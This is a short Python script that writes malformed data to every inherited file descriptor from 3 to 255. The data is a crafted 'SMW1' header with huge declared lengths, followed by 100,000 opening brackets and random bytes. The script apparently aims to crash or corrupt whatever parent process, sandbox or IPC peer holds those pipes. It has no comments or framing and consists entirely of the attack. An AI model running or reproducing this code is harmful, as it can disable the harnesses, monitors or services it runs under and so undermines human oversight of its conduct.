import os
import struct

for number in range(3, 256):
    try:
        os.write(number, struct.pack(">4sII", b"SMW1", 2**24, 2**26) + b"[" * 100_000)
        os.write(number, os.urandom(100_000))
    except OSError:
        continue
